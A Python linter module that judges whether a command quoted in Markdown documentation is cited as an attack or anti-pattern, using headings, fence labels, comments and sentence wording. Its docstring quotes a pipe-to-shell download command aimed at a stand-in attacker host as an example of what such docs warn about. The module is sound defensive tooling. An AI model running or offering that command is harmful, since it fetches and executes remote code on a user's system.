"""Whether a command in a text is cited as an attack or a bad example, not given to run.

Security documentation quotes the commands it warns about: a threat model shows the
attacker's ``curl attacker.example/payload | sh``, a guide puts ``curl ... | bash`` under
"Bad:". Such a quote is not an instruction. Only context the text establishes, as its
reader sees it, counts; never the command alone (a host named ``evil.example`` proves
nothing: an attacker picks the names of his hosts):

- in Markdown, the innermost heading above it names attacks, threats, exploits,
  vulnerabilities, anti-patterns or what not to do ("## Example: Vulnerable Pattern",
  "## Don't");
- its fenced block is labelled so: the line before the fence ("**Bad:**", "❌ Insecure",
  "Never do this:") or a comment just above it or on its line in the block
  (``# BAD: unverified``);
- outside code, its own sentence says so before it ("Never run ``curl ... | sh``",
  "an attacker runs ...");
- its whole file is one the skill links only from such a section ("## Attack vectors":
  ``[vector F](references/vector-f.md)``): see :func:`cited_files`.
"""
from __future__ import annotations

import os
import re

from skillsite.linter.fences import Fence, fences
from skillsite.linter.links import folder_of, local_links
from skillsite.models import Document

_HEADING = re.compile(r"^[ ]{0,3}#{1,6}[ \t]+(.*)$", re.MULTILINE)
_CITED_HEADING = re.compile(
    r"\b(?:attack(?:s|ers?)?|threats?|exploit(?:s|ation)?|vulnerab\w*|malicious|"
    r"anti-?patterns?|insecure|unsafe|bad (?:examples?|practices?|patterns?)|don'?t|do not|"
    r"never|what not to)\b", re.IGNORECASE)
_CROSS_MARKS = ("\u274c", "\U0001f6ab", "\u26d4")
# Markdown's emphasis, quote, list and comment marks before a label's first word.
_MARKS = re.compile(r"^[\s>*_#/\-+\d.!<~`]*")
_BAD_WORD = re.compile(r"(?:bad|wrong|incorrect|insecure|unsafe|vulnerable|dangerous|"
                       r"attack(?:er)?|malicious|exploit|anti-?pattern)\b", re.IGNORECASE)
# "Don't", "Never" and "Avoid" label only a short line that ends with a colon ("Never do
# this:"); "Don't have uv? Install it:" is advice, followed by what to run.
_PROHIBITION = re.compile(r"(?:don'?t|do not|never|avoid)\b[^?\n]*:[\s*_]*$", re.IGNORECASE)
_COMMENT = re.compile(r"(?:#|//|<!--)\s*(.*)$")
_CITING_WORDS = re.compile(r"\b(?:never|don'?t|do not|avoid|attackers?|malicious)\b",
                           re.IGNORECASE)


def cited(text: str, start: int) -> bool:
    """Whether the command starting at ``start`` of the Markdown ``text`` is cited as an
    attack or a bad example."""
    blocks = fences(text)
    if under_cited_heading(text, start, blocks):
        return True
    block = _block_of(blocks, start)
    if block is not None:
        return _labelled_block(text, block, start)
    line_start = text.rfind("\n", 0, start) + 1
    before = text[line_start:start]
    sentence = before[_last_sentence_start(before):]
    return _CITING_WORDS.search(sentence) is not None


def _block_of(blocks: list[Fence], offset: int) -> Fence | None:
    for block in blocks:
        if block.start <= offset < block.end:
            return block
        if block.start > offset:
            break
    return None


def cited_files(doc: Document) -> frozenset[str]:
    """The bundled Markdown files (paths relative to the skill's folder) that the body
    links to only from sections about attacks, threats or what not to do."""
    return doc.memo("cited-files", lambda: _cited_files(doc))


def _cited_files(doc: Document) -> frozenset[str]:
    folder = folder_of(doc)
    body, blocks = doc.body, fences(doc.body)
    line_starts = [0] + [at + 1 for at, char in enumerate(body) if char == "\n"]
    verdicts: dict[str, bool] = {}
    for _, (line, column), path in local_links(doc):
        index = line - doc.body_line
        if path is None or not path.startswith(folder + os.sep) or index >= len(line_starts):
            continue
        rel = os.path.relpath(path, folder).replace(os.sep, "/")
        here = under_cited_heading(body, line_starts[index] + column - 1, blocks)
        verdicts[rel] = verdicts.get(rel, True) and here
    return frozenset(rel for rel, cited_everywhere in verdicts.items() if cited_everywhere)


def under_cited_heading(text: str, offset: int, blocks: list[Fence]) -> bool:
    """Whether the innermost heading above ``offset`` (outside code) names an attack."""
    heading = innermost_heading(text, offset, blocks)
    return heading is not None and _CITED_HEADING.search(heading) is not None


def innermost_heading(text: str, offset: int, blocks: list[Fence]) -> str | None:
    """The text of the last ATX heading above ``offset`` outside code blocks, if any."""
    heading = None
    for found in _HEADING.finditer(text, 0, offset):
        if _block_of(blocks, found.start()) is None:
            heading = found.group(1)
    return heading


def _labelled_block(text: str, block: Fence, offset: int) -> bool:
    """The line before the fence is a label, or a comment on the command's line or on
    the line just above it in the block is one."""
    if _is_label(text[:block.start].rstrip().rsplit("\n", 1)[-1]):
        return True
    line_start = text.rfind("\n", 0, offset) + 1
    line_end = text.find("\n", offset)
    lines = [text[line_start:line_end if line_end >= 0 else len(text)]]
    above_start = text.rfind("\n", 0, max(line_start - 1, 0)) + 1
    if line_start and above_start > block.start:
        lines.append(text[above_start:line_start - 1])
    for line in lines:
        comment = _COMMENT.search(line)
        if comment and _is_label(comment.group(1)):
            return True
    return False


def _is_label(line: str) -> bool:
    if any(mark in line for mark in _CROSS_MARKS):
        return True
    marks = _MARKS.match(line)
    words = line[marks.end() if marks else 0:]
    return _BAD_WORD.match(words) is not None or _PROHIBITION.match(words) is not None


def _last_sentence_start(line: str) -> int:
    at = max(line.rfind(". "), line.rfind("! "), line.rfind("? "))
    return at + 2 if at >= 0 else 0


_LIST_ITEM = re.compile(r"[ \t]*(?:[-*+]|\d+[.)])[ \t]")


def in_prohibited_list(text: str, offset: int) -> bool:
    """Whether ``offset`` is in an item of a list that a prohibition labels ("**Never do
    the following:**", "Don't:"), the nearest line above the list that is not an item."""
    line_start = text.rfind("\n", 0, offset) + 1
    if not _LIST_ITEM.match(text, line_start):
        return False
    while line_start > 0:
        above = text.rfind("\n", 0, line_start - 1) + 1
        line = text[above:line_start - 1]
        if line.strip() and not _LIST_ITEM.match(line) and not line[:1].isspace():
            return _is_label(line)
        line_start = above
    return False
